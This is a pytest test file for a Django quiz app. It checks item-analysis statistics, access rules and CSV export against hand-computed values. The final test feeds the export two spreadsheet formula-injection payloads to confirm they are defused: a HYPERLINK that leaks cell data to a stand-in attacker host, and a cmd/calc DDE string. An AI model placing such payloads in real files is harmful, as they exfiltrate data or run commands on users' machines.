"""Item analysis on a small hand-computed data set, its privacy rules and who may see it."""

import csv
import io

import pytest
from django.urls import reverse

from quizzes import analysis
from quizzes.factories import AnswerFactory, AttemptFactory, QuestionFactory, QuizFactory
from quizzes.models import CourseEvaluation, Kind, Status

# Five people's first attempts at a one-question quiz: (picked, success, scaled total).
# Hand computation: p = 3/5 = 0.6; M1 = (1 + 0.75 + 0.5)/3 = 0.75; M0 = (0.5 + 0.25)/2 = 0.375;
# mean total 0.6; population variance (0.16 + 0.0225 + 0.01 + 0.01 + 0.1225)/5 = 0.065,
# s = 0.254951; r_pb = (0.75 - 0.375)/0.254951 * sqrt(0.6 * 0.4) = 0.720577.
DATA = [
    ("Det rigtige svar", True, 1.0),
    ("Det rigtige svar", True, 0.75),
    ("Det rigtige svar", True, 0.5),
    ("Et forkert svar", False, 0.5),
    ("Et forkert svar", False, 0.25),
]


@pytest.fixture
def question(db):
    return QuestionFactory(kind=Kind.SINGLE)


@pytest.fixture
def analysed_quiz(question):
    quiz = QuizFactory(questions=[question])
    for text, success, total in DATA:
        attempt = AttemptFactory(quiz=quiz, scaled_score=total, passed=success)
        AnswerFactory(
            attempt=attempt,
            question=question,
            success=success,
            score=int(success),
            selected=[question.choices.get(text=text).key],
        )
        # A later, perfect retake must not count: only first attempts do.
        retake = AttemptFactory(
            quiz=quiz, user=attempt.user, number=2, scaled_score=1.0, passed=True
        )
        AnswerFactory(
            attempt=retake,
            question=question,
            success=True,
            score=1,
            selected=[question.choices.get(text="Det rigtige svar").key],
        )
    # An attempt that ran out of time has no answers and is left out.
    AttemptFactory(quiz=quiz, status=Status.EXPIRED)
    return quiz


def test_point_biserial_matches_the_hand_computed_value():
    item = [1, 1, 1, 0, 0]
    totals = [1.0, 0.75, 0.5, 0.5, 0.25]
    assert analysis.point_biserial(item, totals) == pytest.approx(0.720577, abs=1e-6)


def test_point_biserial_is_undefined_when_everyone_got_it_right():
    assert analysis.point_biserial([1, 1, 1], [0.5, 0.7, 0.9]) is None


def test_point_biserial_is_undefined_when_every_total_is_equal():
    assert analysis.point_biserial([1, 0, 1], [0.5, 0.5, 0.5]) is None


def test_difficulty_is_the_share_correct_of_first_attempts(analysed_quiz):
    item = analysis.item_analysis(analysed_quiz).items[0]
    assert item.responses == 5
    assert item.difficulty == pytest.approx(0.6)


def test_discrimination_is_the_point_biserial_of_first_attempts(analysed_quiz):
    item = analysis.item_analysis(analysed_quiz).items[0]
    assert item.discrimination == pytest.approx(0.720577, abs=1e-6)


def test_choice_counts_say_how_often_each_choice_was_picked(analysed_quiz):
    item = analysis.item_analysis(analysed_quiz).items[0]
    assert [(c.text, c.picked) for c in item.choices] == [
        ("Det rigtige svar", 3),
        ("Et forkert svar", 2),
        ("Et andet forkert svar", 0),
    ]


def test_ordering_counts_how_often_each_step_was_in_its_right_position(db):
    question = QuestionFactory(
        kind=Kind.ORDERING, choices=[("A", False, ""), ("B", False, ""), ("C", False, "")]
    )
    quiz = QuizFactory(questions=[question])
    keys = {c.text: c.key for c in question.choices.all()}
    orders = ["ABC", "ABC", "ACB", "BAC", "CBA"]
    for order in orders:
        attempt = AttemptFactory(quiz=quiz, scaled_score=1.0 if order == "ABC" else 0.3)
        AnswerFactory(
            attempt=attempt,
            question=question,
            success=order == "ABC",
            selected=[keys[letter] for letter in order],
        )
    item = analysis.item_analysis(quiz).items[0]
    # A first in ABC, ABC, ACB = 3; B second in ABC, ABC, CBA = 3; C third in ABC, ABC, BAC = 3
    assert [(c.text, c.picked) for c in item.choices] == [("A", 3), ("B", 3), ("C", 3)]
    assert item.difficulty == pytest.approx(0.4)


def test_questions_with_too_few_answers_show_no_numbers(question):
    quiz = QuizFactory(questions=[question])
    for success in (True, False, True, True):
        attempt = AttemptFactory(quiz=quiz, scaled_score=float(success))
        AnswerFactory(attempt=attempt, question=question, success=success)
    item = analysis.item_analysis(quiz).items[0]
    assert item.responses == 4
    assert (item.difficulty, item.discrimination) == (None, None)
    assert all(choice.picked is None for choice in item.choices)


def test_pre_post_change_compares_first_attempts_of_the_same_people(db):
    pre, post = QuizFactory(), QuizFactory()
    evaluation = CourseEvaluation.objects.create(name="FMK", pre_test=pre, post_test=post)
    for before, after in [(0.2, 0.8), (0.4, 0.6), (0.4, 0.8), (0.6, 1.0), (0.4, 0.8)]:
        first = AttemptFactory(quiz=pre, scaled_score=before)
        AttemptFactory(quiz=post, user=first.user, scaled_score=after)
    AttemptFactory(quiz=pre, scaled_score=0.1)  # took only the pre-test
    result = analysis.pre_post(evaluation)
    assert (result.pre_people, result.post_people, result.paired) == (6, 5, 5)
    assert result.pre_mean == pytest.approx(0.35)
    assert result.post_mean == pytest.approx(0.8)
    assert result.mean_change == pytest.approx(0.4)


def test_an_educator_sees_the_item_analysis(client, educator, analysed_quiz):
    client.force_login(educator)
    response = client.get(reverse("quizzes:analysis_detail", args=[analysed_quiz.pk]))
    assert response.status_code == 200
    assert "0.72" in response.content.decode() or "0,72" in response.content.decode()


def test_an_admin_sees_the_analysis_overview(client, admin_user, analysed_quiz):
    client.force_login(admin_user)
    response = client.get(reverse("quizzes:analysis"))
    assert response.status_code == 200
    assert analysed_quiz.title in response.content.decode()


@pytest.mark.parametrize("persona", ["learner", "manager", "outsider"])
def test_others_may_not_see_the_item_analysis(client, request, persona, analysed_quiz):
    client.force_login(request.getfixturevalue(persona))
    for url in [
        reverse("quizzes:analysis"),
        reverse("quizzes:analysis_detail", args=[analysed_quiz.pk]),
        reverse("quizzes:analysis_csv", args=[analysed_quiz.pk]),
    ]:
        assert client.get(url).status_code == 403


def test_the_analysis_of_an_unknown_quiz_is_404(client, educator):
    client.force_login(educator)
    assert client.get(reverse("quizzes:analysis_detail", args=[999999])).status_code == 404


def test_the_csv_export_has_one_row_per_choice_and_no_person_data(client, educator, analysed_quiz):
    client.force_login(educator)
    response = client.get(reverse("quizzes:analysis_csv", args=[analysed_quiz.pk]))
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:7] == [
        "quiz",
        "question_number",
        "question",
        "type",
        "responses",
        "difficulty",
        "discrimination_point_biserial",
    ]
    assert [(r[4], r[5], r[6], r[7], r[9]) for r in rows[1:]] == [
        ("5", "0.600", "0.721", "Det rigtige svar", "3"),
        ("5", "0.600", "0.721", "Et forkert svar", "2"),
        ("5", "0.600", "0.721", "Et andet forkert svar", "0"),
    ]
    assert "@example.org" not in text
    assert "Testesen" not in text


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?leak="&A2,"Se status")', "@SUM(1+1)*cmd|' /C calc'!A0"],
)
def test_the_csv_export_defuses_spreadsheet_formulas(client, educator, payload):
    question = QuestionFactory(text=payload)
    quiz = QuizFactory(questions=[question])
    client.force_login(educator)
    AnswerFactory(attempt=AttemptFactory(quiz=quiz), question=question)
    text = client.get(reverse("quizzes:analysis_csv", args=[quiz.pk])).content.decode()
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][2] == "'" + payload
